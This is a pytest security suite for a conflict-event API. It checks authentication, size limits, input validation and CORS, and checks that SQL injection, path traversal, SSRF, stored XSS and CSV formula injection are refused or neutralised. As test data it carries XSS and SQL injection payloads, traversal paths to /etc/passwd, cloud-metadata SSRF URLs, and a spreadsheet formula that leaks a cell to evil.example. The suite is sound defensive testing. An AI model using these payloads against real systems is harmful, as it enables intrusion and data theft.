"""The API on a shared server: auth, limits, validation, injection, CORS, SSRF, stored XSS.

Everything runs against a real `vigile serve` (uvicorn on 127.0.0.1) over a
real database — SQLite and PostgreSQL, because what one driver accepts the
other may turn into a 500 — seeded with the fusion corpus plus an article
whose text, source and evidence carry script payloads.
"""
from __future__ import annotations

import http.server
import inspect
import re
import shutil
import socket
import subprocess
import threading
from pathlib import Path
from typing import ClassVar, Iterator

import httpx
import pytest
from api_server import LiveServer
from fusion_corpus import ARTICLES
from test_store import articles

import vigile.api
from vigile.api import MAX_BATCH, WEB, create_app
from vigile.ingest import ingest
from vigile.readers import ReadError, fetch, read_inputs
from vigile.schema import Article
from vigile.store import Store

TOKEN = "robustness-token-7f3a"
AUTH = {"Authorization": f"Bearer {TOKEN}"}
MAX_BODY = 200_000

XSS = """<img src=x onerror="document.title='pwned'"><script>document.title='pwned'</script>"""
XSS_ARTICLE = Article(
    id="xss", published="2017-03-20", source=XSS, url="javascript:document.title='pwned'",
    text=f"Lundi, au moins six civils ont été tués par des tirs d'obus sur Deraa {XSS}.")  # no 'selon':
# the outlet (the payload) is then the event's source, shown in the dashboard's list



def _new_database(request: pytest.FixtureRequest, kind: str, folder: Path) -> str:
    if kind == "sqlite":
        return str(folder / "vigile.db")
    from vigile.store.throwaway import new_database

    return new_database(request.getfixturevalue("postgres_server"), "vigile_api_security")


@pytest.fixture(scope="module", params=["sqlite", "postgresql"])
def db(request, tmp_path_factory, pipeline) -> str:
    url = _new_database(request, request.param, tmp_path_factory.mktemp("api-security"))
    store = Store(url)
    ingest([*articles(ARTICLES), XSS_ARTICLE], store, pipeline)
    store.close()
    return url


@pytest.fixture(scope="module")
def server(db) -> Iterator[LiveServer]:
    with LiveServer(create_app(db, token=TOKEN, max_body=MAX_BODY)) as live:
        yield live


@pytest.fixture(scope="module")
def api(server) -> Iterator[httpx.Client]:
    with httpx.Client(base_url=server.url, timeout=120) as client:
        yield client


def counts(api: httpx.Client) -> tuple[int, int]:
    events = api.get("/api/events", params={"limit": 1}).json()["total"]
    return events, api.get("/api/stats").json()["total"]


# --- bearer token -----------------------------------------------------------------------------------------

def test_the_token_is_compared_in_constant_time():
    """Source check: a plain == would leak the token's prefix through response times."""
    source = inspect.getsource(vigile.api.create_app)
    assert "hmac.compare_digest(" in source
    assert not re.search(r"(given|authorization)\s*[!=]=\s*token|token\s*[!=]=", source)


@pytest.mark.parametrize("headers", [
    {}, {"Authorization": ""}, {"Authorization": "Bearer"},
    {"Authorization": "Bearer wrong"}, {"Authorization": TOKEN}, {"Authorization": f"Basic {TOKEN}"},
    {"Authorization": f"Bearer {TOKEN[:-1]}"}, {"Authorization": f"Bearer {TOKEN}x"},
    {"Authorization": f"Bearer {TOKEN.upper()}"}, {"Authorization": f"Bearer  {TOKEN}"},
    {"X-Api-Token": TOKEN}, {"Cookie": f"token={TOKEN}"},
], ids=lambda h: repr(h)[:40])
def test_writes_without_the_right_token_are_401(api, headers):
    r = api.post("/api/articles", json={"id": "t", "text": "bonjour"}, headers=headers)
    assert r.status_code == 401, r.text
    assert r.headers.get("www-authenticate") == "Bearer"


def test_the_token_in_the_query_string_is_not_accepted(api):
    assert api.post("/api/articles", params={"token": TOKEN}, json={"id": "t", "text": "x"}).status_code == 401


def test_an_empty_configured_token_does_not_open_writes(db):
    with LiveServer(create_app(db, token="")) as live:
        r = httpx.post(live.url + "/api/articles", json={"id": "t", "text": "bonjour"}, timeout=120)
    assert r.status_code in (401, 403), r.status_code


# --- body and batch limits ---------------------------------------------------------------------------------

def test_a_declared_body_over_the_limit_is_413(api):
    r = api.post("/api/articles", content=b"x" * (MAX_BODY + 1), headers={**AUTH, "content-type": "application/json"})
    assert r.status_code == 413


def test_a_streamed_body_over_the_limit_is_413(api):
    """No Content-Length (chunked): the server counts as it reads and stops."""
    def chunks() -> Iterator[bytes]:
        for _ in range(50):
            yield b" " * 10_000
    r = api.post("/api/articles", content=chunks(), headers={**AUTH, "content-type": "application/json"})
    assert r.status_code == 413


@pytest.mark.parametrize("length", ["abc", "-1", "1e9", "99999999999999999999999", "5, 5"])
def test_a_lying_content_length_is_refused(server, length):
    """Sent raw: httpx would fix the header."""
    with socket.create_connection(("127.0.0.1", server.port), timeout=30) as s:
        s.sendall(f"POST /api/articles HTTP/1.1\r\nHost: x\r\nContent-Length: {length}\r\n"
                  f"Authorization: Bearer {TOKEN}\r\nContent-Type: application/json\r\n\r\n{{}}".encode())
        head = s.recv(200).decode("latin-1")
    status = int(head.split()[1])
    assert 400 <= status < 500, head


def test_batches_are_bounded(api):
    assert api.post("/api/articles", json=[], headers=AUTH).status_code == 422
    over = [{"id": str(i), "text": "t"} for i in range(MAX_BATCH + 1)]
    assert api.post("/api/articles", json=over, headers=AUTH).status_code == 422


def _blob_app(calls: list[int]):
    """An app whose GET /api/blob?n=… answers n bytes (at once, or streamed in
    chunks), counting the requests that reach it past the cache."""
    from fastapi import FastAPI, Response
    from fastapi.responses import StreamingResponse

    inner = FastAPI()

    @inner.get("/api/blob")
    def blob(n: int, chunks: int = 1) -> Response:
        calls.append(n)
        if chunks == 1:
            return Response(b"x" * n, media_type="application/octet-stream")
        return StreamingResponse(iter([b"x" * (n // chunks)] * chunks), media_type="application/octet-stream")

    return inner


def test_the_read_cache_is_bounded_in_bytes():
    """The read cache holds at most max_bytes (64 MB by default) whatever is asked:
    the oldest entries go first, and a response over max_entry (an eighth) is
    served but never cached, nor buffered past that size."""
    from vigile.api import CACHE_BYTES, _ResponseCache

    default = _ResponseCache(None, ttl=10)
    assert (default.max_bytes, default.max_entry) == (CACHE_BYTES, CACHE_BYTES // 8) and CACHE_BYTES <= 64 << 20
    calls: list[int] = []
    cache = _ResponseCache(_blob_app(calls), ttl=3600, max_bytes=100_000)
    with LiveServer(cache) as live, httpx.Client(base_url=live.url, timeout=60) as client:
        assert len(client.get("/api/blob", params={"n": 5_000}).content) == 5_000
        assert len(client.get("/api/blob", params={"n": 5_000}).content) == 5_000
        assert calls == [5_000]  # the second one came from the cache
        for n in range(5_001, 5_100):  # 99 more distinct responses: ~500 KB asked in all
            client.get("/api/blob", params={"n": n})
            assert cache.bytes <= cache.max_bytes
        assert 10 <= len(cache.entries) < 20 and cache.bytes == sum(
            cache._cost(k, h, b) for k, (_, h, b) in cache.entries.items())
        calls.clear()
        client.get("/api/blob", params={"n": 5_000})  # the oldest was evicted
        client.get("/api/blob", params={"n": 5_099})  # the newest was kept
        assert calls == [5_000]

        for chunks in (1, 10):  # over max_entry (12,500 bytes here), sent whole or streamed
            calls.clear()
            before = cache.bytes
            for _ in range(2):
                r = client.get("/api/blob", params={"n": 20_000, "chunks": chunks})
                assert r.status_code == 200 and len(r.content) == 20_000
            assert calls == [20_000, 20_000]  # served twice by the app: not cached
            assert cache.bytes <= before and all(b"n=20000" not in k for k in cache.entries)


# --- strict validation: 4xx, never 5xx ---------------------------------------------------------------------------

BAD_BODIES = {
    "malformed JSON": b'{"id": "x", "text": ',
    "trailing garbage": b'{"id": "x", "text": "t"} {}',
    "not an object": b'"just a string"',
    "a number": b"1e999",
    "null": b"null",
    "wrong types": b'{"id": 5, "text": ["a"]}',
    "text as object": b'{"id": "x", "text": {"$gt": ""}}',
    "date out of range": b'{"id": "x", "text": "t", "published": "2017-02-31"}',
    "huge number": b'{"id": "x", "text": "t", "published": 1e309}',
    "5000-digit integer": b'{"id": 1' + b"0" * 5000 + b', "text": "t"}',
    "deep nesting": b"[" * 50_000,
    "deep object": b'{"id": "x", "text": ' + b'{"a": ' * 5_000 + b"1" + b"}" * 5_001,
    "NUL in a key": b'{"id\\u0000": "x", "text": "t"}',
    "lone surrogate": b'{"id": "x", "text": "\\ud800"}',
    "invalid UTF-8": b'{"id": "x", "text": "\xff\xfe"}',
    "unknown field": b'{"id": "x", "text": "t", "admin": true}',
    "unknown language": b'{"id": "x", "text": "t", "lang": "xx"}',
    "id too long": b'{"id": "' + b"x" * 600 + b'", "text": "t"}',
    "empty text": b'{"id": "x", "text": ""}',
    "batch with one bad": b'[{"id": "x", "text": "t"}, {"id": "y"}]',
}


#: Bodies whose 422 turns into a 500: FastAPI's default RequestValidationError
#: handler echoes the offending input in the response, and JSON cannot hold it.
_ECHO = ("api.py: FastAPI's default handler for RequestValidationError echoes each invalid input in the 422 "
         "body; an infinite float (1e999, 1e309 in JSON) or a lone surrogate ('\\ud800') cannot be written as "
         "JSON, so the error response itself fails: 500. A handler that leaves 'input' out would fix it.")
ECHO_500 = {"a number", "huge number", "lone surrogate"}


@pytest.mark.parametrize("name", sorted(BAD_BODIES))
def test_bad_payloads_are_4xx(api, name, request):
    r = api.post("/api/articles", content=BAD_BODIES[name], headers={**AUTH, "content-type": "application/json"})
    assert 400 <= r.status_code < 500, (r.status_code, r.text[:300])


@pytest.mark.parametrize("content_type", ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data",
                                          "application/xml", ""])
def test_other_content_types_are_4xx(api, content_type):
    r = api.post("/api/articles", content=b'{"id": "x", "text": "t"}', headers={**AUTH, "content-type": content_type})
    assert 400 <= r.status_code < 500 or r.status_code == 200, r.status_code  # never a 5xx


# --- query parameters: typed, bounded, never SQL ---------------------------------------------------------------

INJECTIONS = ["' OR 1=1 --", "1; DROP TABLE events; --", "\" OR \"\"=\"", "') OR ('a'='a",
              "1' UNION SELECT sql, 1 FROM sqlite_master --", "1 UNION SELECT version() --", "%' --", "\\",
              "'; SELECT pg_sleep(5); --", "$1", "?", ":name", "%(x)s", "{}", "[]", "1e309", "-1", "NaN", "inf",
              "0x7fffffff", "99999999999999999999", "\u202e", "😀" * 60, "é" * 199]
#: Payloads no event text contains: a filter that treats them as text finds nothing.
#: ("\\" is left out: it matches the JSON escapes of a list column, see
#: test_actor_and_source_filters_match_names_not_json.)
SQL_SHAPED = [a for a in INJECTIONS[:10] if a != "\\"]
TEXT_PARAMS = ["actor", "source", "q", "near"]
TYPED_PARAMS = ["type", "country", "radius", "since", "until", "min_killed", "bbox", "limit", "offset", "format"]
ENDPOINTS = ["/api/events", "/api/stats", "/api/clusters"]


@pytest.mark.parametrize("endpoint", ENDPOINTS)
def test_injection_attempts_in_every_parameter(api, endpoint):
    """Every filter of every list endpoint, every payload: a 200 or a 4xx, and the data intact."""
    before = counts(api)
    for param in TEXT_PARAMS + TYPED_PARAMS + (["zoom"] if endpoint == "/api/clusters" else []):
        for attack in INJECTIONS:
            r = api.get(endpoint, params={param: attack})
            assert r.status_code in (200, 422), (endpoint, param, attack, r.status_code, r.text[:300])
            if r.status_code == 200 and param in ("actor", "source", "q") and endpoint == "/api/events" \
                    and attack in SQL_SHAPED:
                assert r.json()["total"] == 0, (param, attack)  # matched as text, found nowhere
    assert counts(api) == before


@pytest.mark.parametrize("attack", ["' OR 1=1 --", "1;DROP TABLE events", "1 OR 1=1", "0x1", "1e3", "-1", "2147483648",
                                    "99999999999999999999", "%00", "..%2f..%2f"])
def test_injection_attempts_in_path_parameters(api, attack):
    for endpoint in ("/api/events/", "/api/articles/"):
        r = api.get(endpoint + attack)
        assert r.status_code in (404, 422), (endpoint, attack, r.status_code)


@pytest.mark.parametrize("params", [
    {"limit": "1" + "0" * 30}, {"offset": "1" + "0" * 30}, {"radius": "1e309"}, {"radius": "nan"},
    {"min_killed": "9" * 40}, {"near": "nan,nan"}, {"near": "1e999,0"}, {"bbox": "nan,nan,nan,nan"},
    {"bbox": "-1e999,-90,180,90"}, {"since": "99999-01-01"}, {"since": "0000-00-00"}, {"zoom": "9" * 30},
    {"type": ["shelling"] * 100},
])
def test_huge_and_odd_numbers_are_4xx(api, params):
    r = api.get("/api/clusters" if "zoom" in params else "/api/events", params=params)
    assert r.status_code == 422, (params, r.status_code, r.text[:200])


@pytest.mark.parametrize("since", ["2000-01-01T00:00:00", "2017-03-14T00:00:00+14:00", "9999-12-31T23:59:59",
                                   "2017-03-14", "not a date", "2017-03-14T25:00:00"])
def test_change_feed_parameters(api, since):
    assert api.get("/api/changes", params={"since": since}).status_code in (200, 422)


@pytest.mark.parametrize("since", ["0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-14:00"])
def test_change_feed_at_the_ends_of_the_calendar_is_not_a_500(api, since):
    assert api.get("/api/changes", params={"since": since}).status_code in (200, 422)


_PG_NUL = ("api/store: a NUL character reaches PostgreSQL, which refuses it ('A string literal cannot contain "
           "NUL (0x00) characters'): a 500. In a filter (q, actor, source) and in a posted article alike. "
           "Parameters and bodies should refuse control characters (422), or the store strip them.")


@pytest.mark.parametrize("param", ["q", "actor", "source"])
def test_nul_in_a_text_filter_is_not_a_500(api, db, param, request):
    """SQLite takes a NUL in a LIKE pattern; PostgreSQL refuses it outright."""
    assert api.get("/api/events", params={param: "Homs\x00"}).status_code in (200, 422)


@pytest.mark.parametrize("case", ["a NUL character", "a figure past 2**63"])
def test_a_hostile_article_posted_is_not_a_500(api, db, case, request):
    """The API side of test_hostile_ingest: what the store cannot take must not be a 500."""
    from .test_hostile_ingest import HOSTILE

    r = api.post("/api/articles", json={"id": f"posted {case}", "text": HOSTILE[case]}, headers=AUTH)
    assert r.status_code < 500, r.text[:300]


def test_like_wildcards_in_text_filters_are_literal(api):
    assert api.get("/api/events", params={"q": "%"}).json()["total"] == 0
    assert api.get("/api/events", params={"source": "_"}).json()["total"] == 0


def test_actor_and_source_filters_match_names_not_json(api):
    """Each name is matched on its own: the JSON list around the names (brackets,
    the quotes and comma between two names) matches nothing, while a quote
    inside a name (the XSS outlet's) is found as typed."""
    assert api.get("/api/events", params={"actor": "[]"}).json()["total"] == 0
    assert api.get("/api/events", params={"source": '", "'}).json()["total"] == 0
    assert api.get("/api/events", params={"source": '["'}).json()["total"] == 0
    quoted = api.get("/api/events", params={"source": 'onerror="'}).json()
    assert quoted["total"] == 1 and quoted["events"][0]["sources"] == [XSS]


# --- CORS and headers ---------------------------------------------------------------------------------------

def test_no_cors_for_a_foreign_origin(api):
    r = api.get("/api/events", headers={"Origin": "https://evil.example"})
    assert r.status_code == 200 and "access-control-allow-origin" not in r.headers
    preflight = api.options("/api/articles", headers={
        "Origin": "https://evil.example", "Access-Control-Request-Method": "POST",
        "Access-Control-Request-Headers": "authorization, content-type"})
    assert "access-control-allow-origin" not in preflight.headers
    assert "access-control-allow-headers" not in preflight.headers
    assert preflight.status_code >= 400


def test_responses_are_not_sniffed(api):
    for path in ("/api/events", "/api/stats", "/api/events/999999", "/"):
        assert api.get(path).headers.get("x-content-type-options") == "nosniff", path


@pytest.mark.parametrize("path", ["/static/../api.py", "/static/..%2fapi.py", "/static/%2e%2e/api.py",
                                  "/static/..%5capi.py", "/vendor/../../api.py", "/static//etc/passwd",
                                  "/vendor/%2e%2e/%2e%2e/%2e%2e/pyproject.toml"])
def test_static_files_stay_in_their_folder(api, path):
    r = api.get(path)
    assert r.status_code in (400, 404), (path, r.status_code)
    assert "def create_app" not in r.text and "root:" not in r.text


# --- URL fetching (SSRF) ------------------------------------------------------------------------------------

class _Canary(http.server.BaseHTTPRequestHandler):
    """A loopback server that counts every request it receives (it should see none)."""

    hits: ClassVar[list[str]] = []  # each test gets a fresh subclass (the canary fixture)
    redirect_to: ClassVar[str] = ""

    def do_GET(self) -> None:  # noqa: N802 — http.server's naming
        type(self).hits.append(self.path)
        if type(self).redirect_to:
            self.send_response(302)
            self.send_header("Location", type(self).redirect_to)
            self.end_headers()
            return
        body = b'<rss version="2.0"><channel><title>t</title><item><title>canari</title></item></channel></rss>'
        self.send_response(200)
        self.send_header("Content-Type", "application/rss+xml")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture
def canary() -> Iterator[tuple[type[_Canary], int]]:
    handler = type("Canary", (_Canary,), {"hits": [], "redirect_to": ""})
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield handler, server.server_address[1]
    server.shutdown()
    server.server_close()


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost", "127.1", "2130706433", "0x7f000001", "0177.0.0.1",
                                  "0.0.0.0", "[::1]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]"])
def test_loopback_in_any_spelling_is_refused(monkeypatch, canary, host):
    handler, port = canary
    monkeypatch.delenv(fetch.ALLOW_PRIVATE_ENV, raising=False)
    [item] = list(read_inputs([f"http://{host}:{port}/flux.rss"]))
    assert isinstance(item, ReadError), item
    assert handler.hits == [], "the refused URL was fetched anyway"


@pytest.mark.parametrize("url", ["http://10.0.0.1/", "http://172.16.0.1/", "http://192.168.0.1/",
                                 "http://169.254.169.254/latest/meta-data/", "http://100.64.0.1/",
                                 "http://[fe80::1]/", "http://[fc00::1]/", "http://224.0.0.1/", "http://[::]/"])
def test_private_link_local_and_special_addresses_are_refused(monkeypatch, url):
    monkeypatch.delenv(fetch.ALLOW_PRIVATE_ENV, raising=False)
    [item] = list(read_inputs([url]))
    assert isinstance(item, ReadError) and "not a public address" in item.message, item


@pytest.mark.parametrize("value", ["true", "yes", "0", "", " 1"])
def test_only_the_exact_opt_in_allows_private_urls(monkeypatch, canary, value):
    handler, port = canary
    monkeypatch.setenv(fetch.ALLOW_PRIVATE_ENV, value)
    [item] = list(read_inputs([f"http://127.0.0.1:{port}/flux.rss"]))
    assert isinstance(item, ReadError) and handler.hits == []


def test_the_opt_in_allows_loopback(monkeypatch, canary):
    handler, port = canary
    monkeypatch.setenv(fetch.ALLOW_PRIVATE_ENV, "1")
    [item] = list(read_inputs([f"http://127.0.0.1:{port}/flux.rss"]))
    assert isinstance(item, Article) and handler.hits == ["/flux.rss"]


def test_a_redirect_to_a_private_address_is_refused(monkeypatch, canary):
    """The check runs on every hop: a 'public' server (127.0.0.1, declared public
    here) redirecting to a private one (127.0.0.2) is refused at the redirect."""
    handler, port = canary
    monkeypatch.delenv(fetch.ALLOW_PRIVATE_ENV, raising=False)
    monkeypatch.setattr(fetch, "_is_public", lambda ip: str(ip) == "127.0.0.1")
    handler.redirect_to = f"http://127.0.0.2:{port}/metadata"
    [item] = list(read_inputs([f"http://127.0.0.1:{port}/flux.rss"]))
    assert isinstance(item, ReadError) and "not a public address" in item.message, item
    assert handler.hits == ["/flux.rss"]


@pytest.mark.parametrize("target", ["file:///etc/passwd", "ftp://127.0.0.1/", "gopher://127.0.0.1:6379/_INFO"])
def test_a_redirect_out_of_http_is_refused(monkeypatch, canary, target):
    handler, port = canary
    monkeypatch.setenv(fetch.ALLOW_PRIVATE_ENV, "1")
    handler.redirect_to = target
    [item] = list(read_inputs([f"http://127.0.0.1:{port}/flux.rss"]))
    assert isinstance(item, ReadError), item


def test_the_api_never_fetches_an_articles_url(api, canary):
    """An article's url is metadata: posting one never makes the server connect to it."""
    handler, port = canary
    body = {"id": "ssrf", "text": "Mardi, trois civils ont été tués par une frappe aérienne à Idleb, selon l'OSDH.",
            "url": f"http://127.0.0.1:{port}/canary"}
    r = api.post("/api/articles", json=body, headers=AUTH)
    assert r.status_code == 200, r.text
    assert handler.hits == []


# --- stored XSS ------------------------------------------------------------------------------------------------

def test_markup_in_articles_comes_back_as_json_data(api):
    [event] = [e for e in api.get("/api/events", params={"limit": 1000}).json()["events"] if XSS in e["evidence"]]
    detail = api.get(f"/api/events/{event['id']}")
    assert detail.headers["content-type"] == "application/json"
    assert XSS in detail.json()["sources"]
    [article_id] = {m["article_id"] for m in detail.json()["mentions"]}
    article = api.get(f"/api/articles/{article_id}")
    assert article.headers["content-type"] == "application/json"
    assert article.headers["x-content-type-options"] == "nosniff"
    assert article.json()["text"] == XSS_ARTICLE.text  # verbatim, as data
    csv = api.get("/api/events", params={"format": "csv"})
    assert csv.headers["content-type"].startswith("text/csv")  # never text/html


# --- spreadsheet formulas (CSV injection) ----------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")'


def test_csv_cells_from_articles_cannot_run_as_formulas(tmp_path, pipeline):
    """?format=csv of an event whose evidence and source begin with a formula: the
    cells are prefixed with ' (shown as text by a spreadsheet), the numbers stay numbers."""
    import csv
    import io

    db = str(tmp_path / "formula.db")
    store = Store(db)
    ingest([Article(id="formula", published="2017-03-20", source=FORMULA,
                    text=f"{FORMULA} Lundi, au moins six civils ont été tués par des tirs d'obus sur Deraa.")],
           store, pipeline)
    store.close()
    with LiveServer(create_app(db, token=TOKEN)) as live:
        r = httpx.get(live.url + "/api/events", params={"format": "csv"}, timeout=60)
        [event] = httpx.get(live.url + "/api/events", timeout=60).json()["events"]
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    assert event["evidence"].startswith(FORMULA) and FORMULA in event["sources"]  # JSON stays verbatim
    [row] = list(csv.DictReader(io.StringIO(r.text)))
    assert row["evidence"] == "'" + event["evidence"]
    assert row["sources"].startswith("'" + FORMULA)
    assert all(_number(cell) or not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values()), row
    assert float(row["latitude"]) == event["location"]["lat"] and int(row["fatalities"]) == event["fatalities"]


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_the_dashboard_forbids_inline_script(api):
    page = api.get("/")
    if page.status_code == 503:
        pytest.skip("dashboard assets not installed")
    csp = page.headers["content-security-policy"]
    script_src = re.search(r"script-src ([^;]*)", csp).group(1)
    assert "'self'" in script_src and "'unsafe-inline'" not in script_src and "'unsafe-eval'" not in script_src
    assert "object-src 'none'" in csp and "base-uri 'none'" in csp and "frame-ancestors 'none'" in csp
    html = page.text
    assert not re.search(r"<script(?![^>]*\bsrc=)[^>]*>", html), "an inline <script> in the page"
    assert not re.search(r"\son[a-z]+\s*=", html), "an inline event handler in the page"


def test_the_dashboard_code_never_parses_data_as_html():
    """Static check of app.js: data reaches the page as text nodes or checked attributes."""
    source = (WEB / "app.js").read_text(encoding="utf-8")
    code = re.sub(r"/\*.*?\*/|//[^\n]*", "", source, flags=re.S)  # comments may say 'innerHTML'
    for sink in ("innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "eval(", "new Function",
                 "setTimeout('", 'setTimeout("', "srcdoc", "createContextualFragment", "DOMParser"):
        assert sink not in code, sink
    assert not re.search(r"\.bind(Popup|Tooltip)\(\s*[`'\"]", code), "Leaflet parses a string popup as HTML"
    assert not re.search(r"\.bind(Popup|Tooltip)\(\s*[a-zA-Z_.]+\s*[,)]", code.replace("el(", "")), \
        "a popup from a variable (could be a string of HTML)"


@pytest.mark.skipif(not shutil.which("chromium"), reason="chromium is not installed")
def test_a_browser_shows_the_payload_as_text(server):
    """The dashboard in headless Chromium: the list of events shows the source that
    holds <img onerror> and <script> as text; no element is created, no script runs."""
    if not (WEB / "node_modules").exists():
        pytest.skip("dashboard assets not installed")
    out = subprocess.run(["chromium", "--headless", "--no-sandbox", "--disable-gpu", "--virtual-time-budget=15000",
                          "--dump-dom", server.url + "/"], capture_output=True, text=True, timeout=180, check=False)
    dom = out.stdout
    assert "data-event-id" in dom, "the event list did not render: " + out.stderr[-500:]
    assert "&lt;img src=x onerror=" in dom  # the payload, shown as text
    assert "<title>Vigile — events</title>" in dom  # the payload would have renamed the page
    assert not re.search(r"<img[^>]*\bsrc=\"?x\b", dom) and "<script>document.title" not in dom
